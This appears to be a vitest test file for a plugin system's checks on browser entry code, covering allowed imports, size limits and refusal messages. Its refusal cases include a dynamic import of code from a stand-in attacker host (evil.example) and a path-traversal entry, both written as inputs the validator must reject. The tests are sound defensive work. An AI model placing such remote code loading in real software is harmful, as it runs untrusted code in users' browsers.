import { afterAll, beforeAll, describe, expect, test } from "vitest";
import {
  type ManifestPart,
  manifestOf,
  packPlugin,
  type TestSite,
  testSite,
  uploadPackage,
} from "../../../testing/index.ts";
import { MAX_BROWSER_BYTES } from "./browser-entry.ts";
import { openPackage } from "./open-package.ts";

const entries = { server: "./index.js", browser: "./browser.js" };
const withCode = (content: string, declared: ManifestPart = {}, version = "1.0.0") =>
  packPlugin(manifestOf({ kinds: ["route"], entries, ...declared }, { version }), "export const plugin = {};", [
    { path: "package/browser.js", content },
  ]);
const page = "export const page = () => null;";

test("PL30 an ES module that imports what the page shares is accepted", async () => {
  const code = `import { useState } from "react"; import "react-dom"; import { jsx } from "react/jsx-runtime";
    import { Button } from "@askwell/plugin-kit/browser"; const meta = import.meta.url; export { Button as page };`;
  const { manifest } = await openPackage(withCode(code));
  expect(manifest.askwell.entries.browser).toBe("./browser.js");
});

describe("PL30 code for browsers is refused with the reason:", () => {
  test.each<[string, Buffer, string]>([
    ["a missing file", packPlugin(manifestOf({ kinds: ["route"], entries }), ""), "the package has no file browser.js"],
    ["a path that leads out", withCode(page, { entries: { ...entries, browser: "../a.js" } }), "entries.browser is no"],
    ["a kind without it", withCode(page, { kinds: ["reviewer"] }), "loads no code in browsers for the kind reviewer"],
    ["too much", withCode(`${page}//${"x".repeat(MAX_BROWSER_BYTES)}`), "at most 1048576 are loaded"],
    ["another library", withCode(`import "lodash"; ${page}`), "browser.js imports lodash; it can import react, "],
    ["a file beside it", withCode(`import "./more.js"; ${page}`), "imports ./more.js"],
    ["another address", withCode(`${page} import("https://evil.example/a.js");`), "imports https://evil.example/a.js"],
    [
      "no page",
      withCode("export const drawing = {};"),
      "browser.js does not export what its kinds have in browsers, page.",
    ],
    [
      "no module",
      withCode("module.exports = { page() {} };"),
      "browser.js does not export what its kinds have in browsers, page.",
    ],
    ["no JavaScript", withCode("import { from ; '"), "browser.js is no ES module"],
  ])("%s", async (_what, bytes, reason) => {
    await expect(openPackage(bytes)).rejects.toThrow(reason);
  });
});

describe("the sheet", () => {
  let site: TestSite;
  beforeAll(async () => {
    site = await testSite({ plugins: [] });
  });
  afterAll(() => site.close());

  test("PL30 an administrator sees the size of code for browsers, and that an update brings it", async () => {
    const without = await uploadPackage(site, packPlugin(manifestOf({ kinds: ["route"] }), ""));
    expect(without.data).toMatchObject({ browser_bytes: 0, added: [] });
    await site.call(site.admin, "installPlugin", { checksum: without.data.checksum });
    const update = await uploadPackage(site, withCode(page, {}, "1.1.0"));
    expect(update.data).toMatchObject({ browser_bytes: page.length, added: ["browser"] });
  });
});
